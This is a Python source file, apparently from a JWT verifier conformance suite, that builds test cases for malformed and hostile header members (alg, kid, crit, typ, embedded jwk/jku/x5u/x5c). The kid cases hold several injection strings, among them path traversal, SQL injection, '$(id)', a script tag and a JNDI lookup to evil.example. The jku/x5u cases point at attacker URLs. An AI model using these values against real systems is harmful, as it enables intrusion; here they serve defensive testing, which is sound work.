"""Headers: optional and required members, and members that must decide nothing."""

from __future__ import annotations

import base64
import datetime
import json
from collections.abc import Callable
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from . import keys, tokens
from .case import Theme

HEADER, CRITICAL, NONE, ALGORITHM, TYPE, KEY, SIGNATURE = 308, 309, 310, 311, 312, 313, 314
H256 = '"alg":"HS256"'


def certificate(name: str) -> x509.Certificate:
    """A certificate of the key by itself, the same each time."""
    private = keys.private_key(name)
    who = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "limen")])
    since = datetime.datetime(2023, 1, 1, tzinfo=datetime.timezone.utc)
    builder = (
        x509.CertificateBuilder()
        .subject_name(who)
        .issuer_name(who)
        .public_key(private.public_key())
        .serial_number(1)
        .not_valid_before(since)
        .not_valid_after(since + datetime.timedelta(days=7300))
    )
    if keys.KEYS[name]["kty"] == "OKP":
        return builder.sign(private, None)
    deterministic = True if keys.KEYS[name]["kty"] == "EC" else None
    return builder.sign(private, hashes.SHA256(), ecdsa_deterministic=deterministic)


def alg(theme: Theme) -> None:
    theme.header("no-alg", "C1", HEADER, '{"typ":"JWT"}', "alg")
    for name, value in {
        "a-number": "256",
        "null": "null",
        "true": "true",
        "an-array": '["HS256"]',
        "an-object": '{"x":1}',
    }.items():
        theme.header(f"alg-{name}", "C1", HEADER, f'{{"alg":{value}}}', "alg|string")
    for name, value in {
        "in-lower-case": "hs256",
        "empty": "",
        "unknown": "XS256",
        "with-a-blank": "HS256 ",
        "with-a-nul": "HS256\\u0000",
        "in-mixed-case": "Hs256",
        "with-a-minus": "HS-256",
        "of-a-jwe": "RSA-OAEP",
        "dir": "dir",
        "hs1": "HS1",
        "hs224": "HS224",
        "ps256": "PS256",
        "es256k": "ES256K",
        "ed448": "Ed448",
        "of-digits": "256",
        "very-long": "A" * 300,
    }.items():
        theme.header(f"alg-{name}", "C1, D1", ALGORITHM, f'{{"alg":"{value}"}}', "alg")
    theme.header("alg-escaped", "B6, C1", 0, '{"\\u0061lg":"HS2\\u00356"}')
    theme.header("alg-in-capitals-as-a-name", "B6, C1", HEADER, '{"ALG":"HS256"}', "alg")


def kid(theme: Theme) -> None:
    for name, value in {
        "a-number": "1",
        "null": "null",
        "true": "false",
        "an-array": '["a"]',
        "an-object": "{}",
    }.items():
        theme.header(f"kid-{name}", "C7", HEADER, f'{{{H256},"kid":{value}}}', "kid|string")
    strange = {
        "a-path": "../../../../dev/null",
        "a-path-of-windows": "..\\\\..\\\\nul",
        "sql": "' OR 1=1 --",
        "a-union": "x' UNION SELECT 'secret",
        "a-command": "$(id)",
        "a-pipe": "|/bin/true",
        "a-url": "https://evil.example/key",
        "a-file-url": "file:///dev/null",
        "html": "<script>alert(1)</script>",
        "a-nul": "\\u0000",
        "a-line-feed": "a\\nb",
        "a-format": "%s%n",
        "blank": " ",
        "long": "k" * 900,
        "ldap": "*)(uid=*",
        "a-template": "{{7*7}}",
        "a-lookup": "${jndi:ldap://evil.example}",
    }
    for name, value in strange.items():
        theme.header(f"kid-{name}", "C9, attack 14", KEY, f'{{{H256},"kid":"{value}"}}', "kid")
    named = keys.jwk_of("hs256", kid="k1")
    theme.header("kid-of-the-key", "C9, E9", 0, f'{{{H256},"kid":"k1"}}', keys=[named])
    theme.header("kid-escaped", "B6", 0, f'{{{H256},"kid":"\\u006b1"}}', keys=[named])
    theme.header("kid-in-another-case", "B6, C9", KEY, f'{{{H256},"kid":"K1"}}', "kid", keys=[named])
    theme.header("kid-short-of-a-letter", "C9", KEY, f'{{{H256},"kid":"k"}}', "kid", keys=[named])
    theme.header(
        "kid-with-a-nul-and-more", "B8, C9", KEY, f'{{{H256},"kid":"k1\\u0000"}}', "kid", keys=[named]
    )
    theme.header(
        "kid-with-a-nul-of-the-key",
        "B8",
        0,
        f'{{{H256},"kid":"k\\u00001"}}',
        keys=[keys.jwk_of("hs256", kid="k\0001")],
    )
    theme.header(
        "kid-up-to-the-nul-of-the-key",
        "B8",
        KEY,
        f'{{{H256},"kid":"k"}}',
        "kid",
        keys=[keys.jwk_of("hs256", kid="k\0001")],
    )
    composed = [keys.jwk_of("hs256", kid="\u00e9")]
    theme.header("kid-beyond-ascii", "B6, C9", 0, f'{{{H256},"kid":"\u00e9"}}', keys=composed)
    theme.header("kid-not-normalised", "B6, C9", KEY, f'{{{H256},"kid":"e\u0301"}}', "kid", keys=composed)
    theme.header("no-kid-and-one-key-with-one", "E9", 0, f"{{{H256}}}", keys=[named])


def crit(theme: Theme) -> None:
    for name, more in {
        "unknown": '"crit":["x"],"x":1',
        "empty": '"crit":[]',
        "no-array": '"crit":"b64"',
        "an-object": '"crit":{"x":1}',
        "null": '"crit":null',
        "false": '"crit":false',
        "names-alg": '"crit":["alg"]',
        "names-kid": '"crit":["kid"],"kid":"a"',
        "names-typ": '"crit":["typ"],"typ":"JWT"',
        "names-crit": '"crit":["crit"]',
        "names-exp": '"crit":["exp"],"exp":1700000900',
        "a-number-in-it": '"crit":[1]',
        "a-name-twice": '"crit":["x","x"],"x":1',
        "an-empty-name": '"crit":[""],"":1',
        "a-name-that-is-not-there": '"crit":["x"]',
        "a-url": '"crit":["http://example.invalid/UNDEFINED"],"http://example.invalid/UNDEFINED":true',
        "escaped": '"\\u0063rit":["x"],"x":1',
    }.items():
        theme.header(f"crit-{name}", "C3, C4, attack 16", CRITICAL, f"{{{H256},{more}}}", "crit")
    theme.header(
        "b64-false", "C5, attack 16, attack 28", CRITICAL, f'{{{H256},"b64":false,"crit":["b64"]}}', "crit"
    )
    theme.header("b64-true-and-critical", "C5", CRITICAL, f'{{{H256},"b64":true,"crit":["b64"]}}', "crit")
    theme.header("b64-without-crit", "C5", CRITICAL, f'{{{H256},"b64":false}}', "b64")
    theme.header("b64-true-without-crit", "C5", CRITICAL, f'{{{H256},"b64":true}}', "b64")
    theme.header("crit-in-capitals", "B6, C6", 0, f'{{{H256},"CRIT":["x"]}}')
    # The payload unencoded (RFC 7797), which a lax reader would accept.
    header = f'{{{H256},"b64":false,"crit":["b64"]}}'
    text = f"{keys.b64(header.encode())}.{tokens.GOOD_CLAIMS}".encode()
    theme.raw(
        "b64-false-and-a-bare-payload", "C5", 302, tokens.attach(text, tokens.mac(keys.secret("hs256"), text))
    )


def typ(theme: Theme) -> None:
    for name, value in {"a-number": "1", "null": "null", "an-array": '["JWT"]'}.items():
        theme.header(f"typ-{name}", "C10", HEADER, f'{{{H256},"typ":{value}}}', "typ|string")
    for name, value in {
        "another": "at+jwt",
        "empty": "",
        "jws": "JOSE",
        "of-a-logout": "logout+jwt",
        "with-a-blank": "JWT ",
        "with-another-prefix": "text/jwt",
        "with-a-nul": "JWT\\u0000",
    }.items():
        theme.header(f"typ-{name}", "C10", TYPE, f'{{{H256},"typ":"{value}"}}', "typ")
    for name, value in {
        "with-its-prefix-twice": "application/application/jwt",
        "of-the-prefix-alone": "application/",
        "with-a-parameter": "jwt;x=1",
    }.items():
        theme.header(f"typ-{name}", "C10", TYPE, f'{{{H256},"typ":"{value}"}}', "typ")
    theme.header("typ-missing", "C10", 0, f"{{{H256}}}")
    for name, value in {
        "in-lower-case": "jwt",
        "in-full": "application/jwt",
        "in-full-in-capitals": "APPLICATION/JWT",
    }.items():
        theme.header(f"typ-{name}", "C10", 0, f'{{{H256},"typ":"{value}"}}')
    at: dict[str, Any] = {"policy": {"token.type": "at+jwt"}}
    theme.header("typ-asked-for", "C10, G1", 0, f'{{{H256},"typ":"at+jwt"}}', **at)
    theme.header("typ-asked-for-in-full", "C10, G1", 0, f'{{{H256},"typ":"application/at+jwt"}}', **at)
    theme.header("typ-asked-for-in-capitals", "C10, G1", 0, f'{{{H256},"typ":"AT+JWT"}}', **at)
    theme.header("typ-asked-for-and-another-there", "C10, G1", TYPE, tokens.GOOD_HEADER, "typ|at+jwt", **at)
    theme.header("typ-asked-for-and-none-there", "C10, G1", TYPE, f"{{{H256}}}", "typ|at+jwt", **at)
    theme.header(
        "typ-asked-for-with-more-behind", "C10, G1", TYPE, f'{{{H256},"typ":"at+jwt+x"}}', "typ|at+jwt", **at
    )
    inner = tokens.token().decode()
    theme.case("a-token-in-a-token", "K1", 305, "claims", header=f'{{{H256},"cty":"JWT"}}', claims=inner)
    theme.case(
        "a-token-in-a-token-as-a-string",
        "K1",
        305,
        "claims",
        header=f'{{{H256},"cty":"JWT"}}',
        claims=f'"{inner}"',
    )
    theme.header("cty-a-number", "C10", HEADER, f'{{{H256},"cty":1}}', "cty|string")
    theme.header("unknown-parameters", "C6", 0, f'{{{H256},"x":[1],"zip":"DEF","y":{{"z":null}}}}')


def chain_of(name: str) -> str:
    der = certificate(name).public_bytes(serialization.Encoding.DER)
    return json.dumps([base64.b64encode(der).decode()])


def embedded(theme: Theme) -> None:
    """A key that comes with the token, and signed it: never believed."""
    ways: dict[str, Callable[[str], str]] = {
        "jwk": lambda name: f'"jwk":{keys.compact(keys.public(name))}',
        "jwk-with-a-kid": lambda name: f'"jwk":{keys.compact(keys.public(name, kid="k1"))}',
        "jku": lambda name: '"jku":"https://evil.example/jwks.json"',
        "x5u": lambda name: '"x5u":"https://evil.example/cert.pem"',
        "x5c": lambda name: f'"x5c":{chain_of(name)}',
    }
    for algorithm in ("RS256", "ES256", "EdDSA"):
        own, other = algorithm.lower(), f"{algorithm.lower()}-other"
        for way, member in ways.items():
            if way == "x5c" and algorithm != "RS256":
                continue
            header = f'{{"alg":"{algorithm}",{member(other)}}}'
            theme.case(
                f"{own}-{way}-of-the-signer",
                "C8, attack 15",
                SIGNATURE,
                "signature",
                header=header,
                key=other,
                algorithm=algorithm,
                keys=[own],
            )
        header = f'{{"alg":"{algorithm}","kid":"k1",{ways["jwk-with-a-kid"](other)}}}'
        theme.case(
            f"{own}-jwk-and-the-kid-of-the-key",
            "C8, attack 15",
            SIGNATURE,
            "signature",
            header=header,
            key=other,
            algorithm=algorithm,
            keys=[keys.jwk_of(own, kid="k1")],
        )
        header = f'{{"alg":"{algorithm}","kid":"mine",{ways["jwk"](other)}}}'
        theme.case(
            f"{own}-jwk-and-a-kid-of-no-key",
            "C8, attack 15",
            KEY,
            "kid",
            header=header,
            key=other,
            algorithm=algorithm,
            keys=[keys.jwk_of(own, kid="k1")],
        )
        header = f'{{"alg":"{algorithm}",{ways["jwk"](other)}}}'
        theme.case(
            f"{own}-jwk-that-nobody-used",
            "C6, C8",
            0,
            header=header,
            key=own,
            algorithm=algorithm,
            keys=[own],
        )


def embedded_secrets(theme: Theme) -> None:
    secret = keys.compact({"kty": "oct", "k": keys.b64(keys.secret("hs256-other"))})
    theme.case(
        "hs256-jwk-of-the-signer",
        "C8, attack 15",
        SIGNATURE,
        "signature",
        header=f'{{{H256},"jwk":{secret}}}',
        key="hs256-other",
    )
    theme.header("jwk-that-is-no-object", "C6, C8", 0, f'{{{H256},"jwk":"x","x5c":1,"jku":null}}')


def themes() -> list[Theme]:
    theme = Theme("header", "Headers: optional and required members, and members that must decide nothing.")
    for add in (alg, kid, crit, typ, embedded, embedded_secrets):
        add(theme)
    return [theme]
